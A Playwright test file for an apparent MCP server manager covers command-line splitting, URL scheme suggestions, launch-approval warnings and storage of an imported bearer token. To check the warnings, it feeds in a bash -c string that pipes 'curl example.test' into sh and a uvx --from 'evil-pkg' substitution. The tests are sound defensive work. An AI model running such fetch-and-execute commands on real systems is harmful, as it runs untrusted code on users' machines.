// Adding servers the way people paste them: a whole command line is offered split (quotes respected), a scheme-less
// address gets https:// (http:// on loopback) suggested, and an imported Authorization: Bearer header becomes the
// server's bearer token in the credential store: never a header in the settings file, never back in the page.
import AxeBuilder from '@axe-core/playwright';
import { dataFileTexts } from '../shared/support/data-files';
import { expect, test } from './support/fixture';
import { openAddDialog, serverRow } from './support/ui';

/** Every file in the data folder, as one text. */
const filesText = (dir: string): string => dataFileTexts(dir).join('\n');

test('a pasted command line is offered split into command and arguments; the id follows the name', async ({ page }) => {
  const dialog = await openAddDialog(page);
  await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('My Files (work)');
  await expect(dialog.getByRole('textbox', { name: 'Id', exact: true })).toHaveValue('my-files-work');
  await dialog
    .getByRole('textbox', { name: 'Command', exact: true })
    .fill(`npx -y @modelcontextprotocol/server-filesystem "/tmp/My Docs" '--label=a b'`);
  const offer = dialog.getByRole('region', { name: 'Split the command line' });
  await expect(offer).toContainText('4 arguments');
  await offer.getByRole('button', { name: 'Split into command and arguments' }).click();
  await expect(dialog.getByRole('textbox', { name: 'Command', exact: true })).toHaveValue('npx');
  await expect(dialog.getByRole('textbox', { name: 'Arguments', exact: true })).toHaveValue(
    '-y\n@modelcontextprotocol/server-filesystem\n/tmp/My Docs\n--label=a b',
  );
  await expect(offer).toBeHidden();
  await dialog.getByRole('button', { name: 'Add server' }).click();
  await expect(dialog).toBeHidden();
  // The exact launch, as split, waits for approval.
  const approval = page.getByRole('region', { name: 'Approve this command before it runs' });
  await expect(page.getByTestId('approval-command')).toHaveText('npx');
  await expect(approval.getByRole('list', { name: 'Arguments' }).getByRole('listitem')).toHaveText([
    '-y',
    '@modelcontextprotocol/server-filesystem',
    '/tmp/My Docs',
    '--label=a b',
  ]);
  await expect(serverRow(page, 'My Files (work)')).toBeVisible();
});

test('the approval panel says plainly that npx -c runs a shell string, before anything runs', async ({ page }) => {
  const dialog = await openAddDialog(page);
  await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Shelly');
  await dialog.getByRole('textbox', { name: 'Command', exact: true }).fill(`npx -y -c "echo hi"`);
  await dialog
    .getByRole('region', { name: 'Split the command line' })
    .getByRole('button', { name: 'Split into command and arguments' })
    .click();
  await dialog.getByRole('button', { name: 'Add server' }).click();
  await expect(dialog).toBeHidden();
  const approval = page.getByRole('region', { name: 'Approve this command before it runs' });
  await expect(approval.getByRole('list', { name: 'What this launch also does' }).getByRole('listitem')).toHaveText([
    'npx runs “echo hi” as a shell command line: it can run any program on your computer, not only an npm package.',
  ]);
  // Readable in both colour schemes (the warning sits inside the yellow approval panel).
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    const results = await new AxeBuilder({ page }).include('[data-testid="approval-warnings"]').analyze();
    expect(results.violations.map((v) => `${colorScheme} ${v.id}: ${v.help}`)).toEqual([]);
  }
  // An ordinary npx launch says nothing of the kind.
  const plain = await openAddDialog(page);
  await plain.getByRole('textbox', { name: 'Name', exact: true }).fill('Plain');
  await plain.getByRole('textbox', { name: 'Command', exact: true }).fill('npx');
  await plain.getByRole('textbox', { name: 'Arguments', exact: true }).fill('-y\n@modelcontextprotocol/server-everything');
  await plain.getByRole('button', { name: 'Add server' }).click();
  await expect(plain).toBeHidden();
  await expect(page.getByRole('heading', { level: 1, name: 'Plain' })).toBeVisible();
  await expect(page.getByRole('list', { name: 'Arguments' }).getByRole('listitem')).toHaveText([
    '-y',
    '@modelcontextprotocol/server-everything',
  ]);
  await expect(page.getByTestId('approval-warnings')).toHaveCount(0);
});

test('the approval panel says plainly what uvx --from and a bash -c string do', async ({ page }) => {
  const dialog = await openAddDialog(page);
  await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Wrapped');
  await dialog.getByRole('textbox', { name: 'Command', exact: true }).fill('uvx');
  await dialog.getByRole('textbox', { name: 'Arguments', exact: true }).fill('--from\nevil-pkg\nmcp-server-time');
  await dialog.getByRole('button', { name: 'Add server' }).click();
  await expect(dialog).toBeHidden();
  const approval = page.getByRole('region', { name: 'Approve this command before it runs' });
  await expect(approval.getByRole('list', { name: 'What this launch also does' }).getByRole('listitem')).toHaveText([
    'uvx installs the package “evil-pkg” and runs a command from it, which may not be the package the rest of the line names.',
  ]);

  const shell = await openAddDialog(page);
  await shell.getByRole('textbox', { name: 'Name', exact: true }).fill('Shell string');
  await shell.getByRole('textbox', { name: 'Command', exact: true }).fill('bash');
  await shell.getByRole('textbox', { name: 'Arguments', exact: true }).fill('-c\nnpx -y pkg; curl example.test | sh');
  await shell.getByRole('button', { name: 'Add server' }).click();
  await expect(shell).toBeHidden();
  await expect(page.getByRole('heading', { level: 1, name: 'Shell string' })).toBeVisible();
  await expect(page.getByRole('list', { name: 'What this launch also does' }).getByRole('listitem')).toHaveText([
    'bash runs “npx -y pkg; curl example.test | sh” as a command line: it can run any program on your computer, not only one.',
  ]);
});

test('a scheme-less URL gets a scheme suggested; the Sign-in tab exists only for remote servers', async ({ page }) => {
  const dialog = await openAddDialog(page);
  await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Local HTTP');
  await dialog.getByLabel('Transport').selectOption('http');
  await dialog.getByRole('textbox', { name: 'URL', exact: true }).fill('localhost:3999/mcp');
  await dialog.getByRole('button', { name: 'Use http://localhost:3999/mcp' }).click();
  await expect(dialog.getByRole('textbox', { name: 'URL', exact: true })).toHaveValue('http://localhost:3999/mcp');
  await dialog.getByRole('textbox', { name: 'URL', exact: true }).fill('api.example.com/mcp');
  await dialog.getByRole('button', { name: 'Use https://api.example.com/mcp' }).click();
  await expect(dialog.getByRole('textbox', { name: 'URL', exact: true })).toHaveValue('https://api.example.com/mcp');
  await dialog.getByRole('button', { name: 'Add server' }).click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('tab', { name: 'Sign-in' })).toBeVisible();

  const stdio = await openAddDialog(page);
  await stdio.getByRole('textbox', { name: 'Name', exact: true }).fill('Local program');
  await stdio.getByRole('textbox', { name: 'Command', exact: true }).fill('node');
  await stdio.getByRole('button', { name: 'Add server' }).click();
  await expect(stdio).toBeHidden();
  await expect(page.getByRole('heading', { level: 1, name: 'Local program' })).toBeVisible();
  await expect(page.getByRole('tab', { name: 'Overview' })).toBeVisible();
  await expect(page.getByRole('tab', { name: 'Sign-in' })).toHaveCount(0);
});

test('an imported Authorization: Bearer header becomes the bearer token, kept in the credential store', async ({
  switchboard,
  bridge,
  page,
}) => {
  const canary = `CANARY_IMPORT_${Date.now().toString(36)}`;
  await page.getByRole('button', { name: 'Import from another app' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import servers' });
  await dialog.getByLabel('Configuration text').fill(
    JSON.stringify({
      mcpServers: { api: { url: 'https://api.example.com/mcp', headers: { Authorization: `Bearer ${canary}`, 'X-Team': 'blue' } } },
    }),
  );
  await dialog.getByRole('button', { name: 'Preview' }).click();
  const preview = dialog.getByRole('table', { name: 'Import preview' });
  await expect(preview).toContainText('Will be created');
  await expect(preview).toContainText('becomes the bearer token');
  await expect(preview).not.toContainText(canary);
  await dialog.getByRole('button', { name: 'Import 1 server' }).click();
  await expect(dialog.getByRole('status')).toContainText('Imported 1 server.');
  await dialog.getByRole('button', { name: 'Close', exact: true }).click();
  await expect(dialog).toBeHidden();

  await serverRow(page, 'api').click();
  await page.getByRole('tab', { name: 'Sign-in' }).click();
  const panel = page.getByRole('region', { name: 'Sign-in' });
  await panel.getByRole('button', { name: 'Static bearer token' }).click();
  await expect(panel.getByText('A token is stored in the credential store.')).toBeVisible();
  const status = await bridge['auth.status']({ id: 'api' });
  expect(status.bearerSet).toBe(true);
  const detail = await bridge['servers.get']({ id: 'api' });
  expect(JSON.stringify(detail)).not.toContain(canary);
  expect(JSON.stringify(detail)).toContain('X-Team');
  expect(await page.content()).not.toContain(canary);
  expect(filesText(switchboard.dataDir)).not.toContain(canary);
});
